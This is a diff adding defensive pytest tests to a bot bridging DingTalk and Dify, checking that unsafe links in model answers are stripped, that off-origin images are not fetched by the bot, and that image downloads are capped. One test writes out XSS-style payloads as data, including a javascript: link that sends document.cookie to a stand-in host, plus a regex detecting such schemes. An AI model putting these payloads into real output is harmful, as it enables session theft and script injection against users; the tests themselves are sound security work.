@@ -7,10 +7,13 @@ from __future__ import annotations
 
 import base64
 import json
+import re
 from typing import Any
 
 import pytest
+from aiohttp import web
 
+from dingdifyd.bridge.media import IMAGES_LEFT_OUT, MAX_IMAGES_PER_ANSWER, MAX_TRANSFERS
 from dingdifyd.bridge.session import out_track_id
 from dingdifyd.dingtalk.stream import parse_incoming
 from dingdifyd.simulator.fake_dify import TOOL_IMAGE, FakeDify
@@ -250,6 +253,60 @@ async def test_images_elsewhere_stay_and_inline_images_and_dify_links_are_made_u
         f"Inline: ![dot]({media.media_id})\n\n"
         f"Download [the report]({dify.public_url}/files/tools/r.pdf?sign=abc)."
     )
+
+
+async def test_links_with_unsafe_schemes_from_the_model_never_reach_the_card(tmp_path, dingtalk, dify):
+    answer = (
+        "Open [the form](javascript:fetch('//x/'+document.cookie)) or [pay](dtmd://dingtalkclient/sendMessage?"
+        "content=pay) or [page](data:text/html;base64,PHNjcmlwdD4=) or <vbscript:msgbox>.\n\n"
+        "![x](javascript:alert(1)) Details: [docs](https://example.com/docs)."
+    )
+    dify.configure(dify_key("chatbot"), answer=answer)
+    dify.enable_suggested_questions(dify_key("chatbot"), ["[Tap](javascript:alert(2)) here?"])
+    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
+        card = await send(dingtalk, dingtalk.make_text_message("links please"))
+    unsafe_link = re.compile(r"(\]\(|<)\s*<?\s*(javascript|dtmd|data|vbscript):", re.IGNORECASE)
+    for content in [*card.contents, card.final_content]:
+        assert not unsafe_link.search(content), content  # shown as text at most, never as a link
+    assert "[docs](https://example.com/docs)" in card.final_content
+    assert "Tap" in card.final_content  # the suggestion stays, as text
+
+
+async def test_an_image_on_another_origin_is_left_to_dingtalk_never_fetched_by_the_bot(tmp_path, dingtalk, dify):
+    reached: list[str] = []
+
+    async def internal(request: web.Request) -> web.Response:
+        reached.append(request.path)
+        return web.Response(body=SAMPLE_PNG, content_type="image/png")
+
+    app = web.Application()
+    app.router.add_get("/{tail:.*}", internal)
+    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.5)
+    await runner.setup()
+    await web.TCPSite(runner, "127.0.0.1", 0).start()
+    internal_url = f"http://127.0.0.1:{runner.addresses[0][1]}/files/tools/a.png"  # Dify's path, not its origin
+    try:
+        dify.configure(dify_key("chatbot"), answer=f"Look: ![a]({internal_url})")
+        async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
+            card = await send(dingtalk, dingtalk.make_text_message("show the metadata"))
+    finally:
+        await runner.cleanup()
+    assert reached == []  # the card is final, so every fetch the answer caused has been made: none was
+    assert dingtalk.uploaded_media == []
+    assert card.final_content == f"Look: ![a]({internal_url})"  # DingTalk's client may fetch it, not the bot
+
+
+async def test_an_answer_with_many_images_and_files_is_capped_and_says_so(tmp_path, dingtalk, dify):
+    urls = [dify.add_tool_file(SAMPLE_PNG[:-12] + bytes([i]) * 4 + SAMPLE_PNG[-8:]) for i in range(30)]
+    dify.configure(dify_key("chatbot"), answer=" ".join(f"![img{i}]({url})" for i, url in enumerate(urls)))
+    dify.file_delay = 0.05  # each download takes a moment, so that transfers overlap if they may
+    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
+        card = await send(dingtalk, dingtalk.make_text_message("all the pictures"))
+    assert len(dingtalk.uploaded_media) == MAX_IMAGES_PER_ANSWER
+    assert dify.files_served == MAX_IMAGES_PER_ANSWER
+    assert 1 < dify.max_files_in_flight <= MAX_TRANSFERS  # a few at a time, never all at once
+    assert card.final_content.count("](@") == MAX_IMAGES_PER_ANSWER
+    assert IMAGES_LEFT_OUT.format(count=30 - MAX_IMAGES_PER_ANSWER, limit=MAX_IMAGES_PER_ANSWER) in card.final_content
 
 
 async def test_a_file_name_in_chinese_reaches_dify_as_it_is(tmp_path, dingtalk, dify):
